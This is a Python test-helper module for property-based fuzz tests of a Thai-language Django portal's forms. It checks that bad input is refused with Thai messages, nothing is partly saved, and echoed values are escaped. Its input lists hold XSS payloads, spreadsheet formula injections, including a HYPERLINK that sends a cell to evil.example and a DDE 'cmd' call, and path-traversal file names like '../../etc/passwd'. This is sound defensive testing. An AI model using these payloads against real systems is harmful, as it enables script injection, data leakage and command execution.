"""Property-based tests of every form with bad input (issue 9, 'Bad input').

Each test drives a form through its real view with the Django test client as
a user who may use it, and checks four things of every generated input:

1. no 500: the test client re-raises any exception a view lets escape;
2. invalid input is refused with a Thai message: the form is re-rendered
   (200, or the view's usual status) with errors that each contain Thai, or
   the view redirects with a Thai message;
3. nothing is partially saved: after a refused POST the rows of the tables the
   form touches are exactly what they were before it;
4. script is never run when shown back: a response never holds a raw
   ``<script>alert(1)</script>`` and, where the value is echoed, holds it
   escaped.

How the examples are kept apart. pytest-django wraps a whole test function in
one transaction, but hypothesis calls the test body once per example inside
that one call, so the fixtures (the organisation, its people, a plan …) are
built once and shared by every example. Each example therefore runs its
requests inside :func:`example_state`: a savepoint that is always rolled back
at the end of the example, with the cache emptied and the client's messages
cookie dropped, so the next example starts from the fixtures' state again.
Snapshots for check 3 are taken inside that savepoint, just before the POST.
Files written to MEDIA_ROOT are not rolled back with the database, so tests
that upload files compare the media directory as well.

The profile ``fuzz`` (registered in tests/fuzz/conftest.py) keeps
hypothesis's example database out of the repository (``database=None``) and
sets no deadline. It is derandomized: every run tries the same examples, so CI
passes or fails on the code, not on luck. ``FUZZ_RANDOM=1`` draws new examples
for exploring; keep what it finds as an ``@example``. The number of examples
per test is modest so that the whole of tests/fuzz runs in a couple of
minutes; set ``FUZZ_EXAMPLES`` to run more (``FUZZ_EXAMPLES=500``).
"""

import io
import os
import re
import zipfile
from contextlib import contextmanager
from decimal import Decimal

from django import forms
from django.contrib.messages import get_messages
from django.core.cache import cache
from django.db import transaction
from django.forms import BaseForm
from django.forms.formsets import BaseFormSet
from hypothesis import settings
from hypothesis import strategies as st

from ita_portal.thai import to_thai_digits


def fuzz(max_examples: int | None = None):
    """The ``fuzz`` profile as a decorator, with this test's example count
    (``FUZZ_EXAMPLES`` in the environment wins)."""
    profile = settings.get_profile("fuzz")
    if max_examples is None or "FUZZ_EXAMPLES" in os.environ:
        return settings(profile)
    return settings(profile, max_examples=max_examples)


# --- the bad input -----------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
SCRIPT_ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
IMG = '"><img src=x onerror=alert(1)>'
IMG_ESCAPED = "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"
PAYLOADS = {SCRIPT: SCRIPT_ESCAPED, IMG: IMG_ESCAPED}

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]
NUMBER_WORDS = [
    "NaN",
    "nan",
    "-NaN",
    "sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    "-inf",
    "1e309",
    "1E5",
    "-0",
    "0x1F",
    "1_000",
    "๘๕.๕๐",
    "๑2.๕",
    "1,234.5",
    "1,23",
    "85..5",
    ".",
    "-",
    "+",
    "٣",  # an Arabic-Indic digit
    "½",
    "９９",  # fullwidth
    "9" * 400,
    "-" + "9" * 50,
    "0." + "0" * 50 + "1",
]
WEIRD = [
    "",
    " ",
    "\u200b",
    "\x00",
    "a\x00b",
    "\r\n\r\n",
    "\t",
    "\ufeff",
    "\u202e",
    "ก" * 5000,
    "\U0001f600",
]

# Thai letters, vowels, tone marks and digits, with spaces and ASCII digits.
thai_text = st.text(
    alphabet=st.one_of(
        st.characters(min_codepoint=0x0E01, max_codepoint=0x0E5B),
        st.sampled_from(" 0123456789."),
    ),
    max_size=40,
)


@st.composite
def mixed_digits(draw, number=None) -> str:
    """A number's digits, each written ๐-๙ or 0-9 at random."""
    text = draw(number) if number is not None else draw(plain_numbers)
    flags = draw(st.lists(st.booleans(), min_size=len(text), max_size=len(text)))
    return "".join(
        to_thai_digits(ch) if flag else ch for ch, flag in zip(text, flags, strict=True)
    )


plain_numbers = st.one_of(
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.integers(min_value=-5, max_value=105).map(str),
    st.decimals(
        min_value=Decimal(-1000), max_value=Decimal(1000), allow_nan=False, places=3
    ).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)

numbers = st.one_of(plain_numbers, mixed_digits(), st.sampled_from(NUMBER_WORDS))


@st.composite
def with_payload(draw) -> str:
    """Script or markup inside some other text."""
    payload = draw(st.sampled_from(list(PAYLOADS)))
    return draw(thai_text) + payload + draw(thai_text)


# Anything a person (or a script) might type into a text field.
texts = st.one_of(
    st.text(max_size=60),
    thai_text,
    numbers,
    st.sampled_from(FORMULAS + WEIRD + list(PAYLOADS)),
    with_payload(),
)


# --- files -------------------------------------------------------------------

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01"
    b"\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f"
    b"\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def bad_files(xlsx: bytes):
    """Bytes that are not a usable file: nothing, noise, other types, and
    `xlsx` broken in the ways a real upload breaks."""
    return st.one_of(
        st.just(b""),
        st.binary(min_size=1, max_size=2048),
        st.sampled_from(
            [
                PNG,
                PDF,
                b"<!doctype html>" + SCRIPT.encode(),
                b"PK\x03\x04",
                b"PK\x05\x06" + b"\x00" * 18,  # an empty zip
                zip_bytes({"hello.txt": b"hello"}),  # a zip without a workbook
                zip_bytes({"[Content_Types].xml": b"<Types/>"}),
                zip_bytes({"xl/workbook.xml": b"<not-a-workbook"}),
            ]
        ),
        st.integers(min_value=1, max_value=len(xlsx) - 1).map(lambda n: xlsx[:n]),
        st.tuples(
            st.integers(min_value=0, max_value=len(xlsx) - 1), st.binary(min_size=1)
        ).map(lambda t: xlsx[: t[0]] + t[1] + xlsx[t[0] + len(t[1]) :]),
    )


file_names = st.one_of(
    st.sampled_from(
        [
            "ไฟล์.xlsx",
            "file.pdf",
            "image.png",
            "../../etc/passwd",
            "..\\..\\win.ini",
            SCRIPT + ".pdf",
            IMG + ".pdf",
            "ก" * 300 + ".pdf",
            ".pdf",
            "noextension",
            "a\x00b.pdf",
            "=HYPERLINK(1).pdf",
        ]
    ),
    st.text(min_size=1, max_size=30).map(lambda s: s + ".pdf"),
)


# --- running and checking ----------------------------------------------------

THAI = re.compile("[\u0e01-\u0e5b]")


@contextmanager
def example_state(client=None):
    """Run one example's requests in a savepoint that is always rolled back,
    from an empty cache and without messages left by the last example."""
    cache.clear()
    if client is not None:
        client.cookies.pop("messages", None)
    with transaction.atomic():
        yield
        transaction.set_rollback(True)
    cache.clear()


def rows(*models) -> dict:
    """Every row of `models`, every column: what 'nothing saved' compares."""
    return {
        model._meta.label: list(model._base_manager.order_by("pk").values())
        for model in models
    }


def forms_in(response) -> list:
    """Forms and formsets in the response's template context."""
    found = []
    for context in response.context or []:
        for value in context.flatten().values():
            if isinstance(value, BaseForm | BaseFormSet) and value not in found:
                found.append(value)
    return found


def error_messages(response) -> list[str]:
    """Every error of every bound form and formset in the response."""
    messages = []
    for form in forms_in(response):
        if not form.is_bound:
            continue
        if isinstance(form, BaseFormSet):
            messages += [str(m) for m in form.non_form_errors()]
            for sub in form.forms:
                for errors in sub.errors.values():
                    messages += [str(m) for m in errors]
        else:
            for errors in form.errors.values():
                messages += [str(m) for m in errors]
    return messages


def flash_messages(response) -> list[tuple[str, str]]:
    """(level tag, text) of the messages the view added."""
    return [(m.level_tag, str(m)) for m in get_messages(response.wsgi_request)]


def assert_thai(messages) -> None:
    assert messages, "refused without saying why"
    for message in messages:
        assert THAI.search(message), f"not a Thai message: {message!r}"


def assert_escaped(response) -> None:
    """No raw payload anywhere in an HTML page."""
    if not response.get("Content-Type", "").startswith("text/html"):
        return
    body = response.content.decode()
    for raw in PAYLOADS:
        assert raw not in body, f"unescaped {raw!r} in the page"


def assert_echoed_escaped(response, value: str) -> None:
    """`value` held a payload and the page shows it back, escaped."""
    body = response.content.decode()
    for raw, escaped in PAYLOADS.items():
        if raw in value:
            assert raw not in body
            assert escaped in body, f"{raw!r} not shown back escaped"


def check_refused(response, before, after, *, status=200) -> list[str]:
    """The form came back with Thai errors and nothing changed."""
    assert response.status_code == status, response.status_code
    messages = error_messages(response)
    assert_thai(messages)
    assert before == after, "a refused form changed the database"
    assert_escaped(response)
    return messages


def browser_data(form) -> dict:
    """What a browser posts for `form` as the page shows it: every field's
    shown value (files left out), to be changed by the test."""
    data = {}
    for bound in form:
        field = bound.field
        if isinstance(field, forms.FileField):
            continue
        value = bound.value()
        if isinstance(field, forms.BooleanField):
            if value:
                data[bound.html_name] = "on"
        elif value is None:
            data[bound.html_name] = ""
        elif isinstance(value, list | tuple):
            data[bound.html_name] = [str(v) for v in value]
        else:
            shown = field.widget.format_value(value)
            if isinstance(shown, list):  # a select: the chosen option's value
                shown = shown[0] if shown else ""
            data[bound.html_name] = "" if shown is None else str(shown)
    return data


def files_under(root) -> list:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def submit(client, url, data, tables, *, echoed=(), media=None, status=200):
    """POST `data`; saved: the page it leads to shows no raw script; refused:
    Thai errors, no change to `tables` (nor to the files under `media`), and
    the typed values of the `echoed` fields shown back escaped. Returns the
    response and, when saved, the page it led to."""
    before = rows(*tables)
    files_before = files_under(media) if media is not None else None
    response = client.post(url, data)
    if response.status_code == 302:
        page = client.get(response["Location"])
        assert page.status_code == 200, page.status_code
        assert_escaped(page)
        return response, page
    check_refused(response, before, rows(*tables), status=status)
    if media is not None:
        assert files_under(media) == files_before, "a refused form left files"
    for name in echoed:
        value = data.get(name)
        if isinstance(value, str):
            assert_echoed_escaped(response, value)
    return response, None
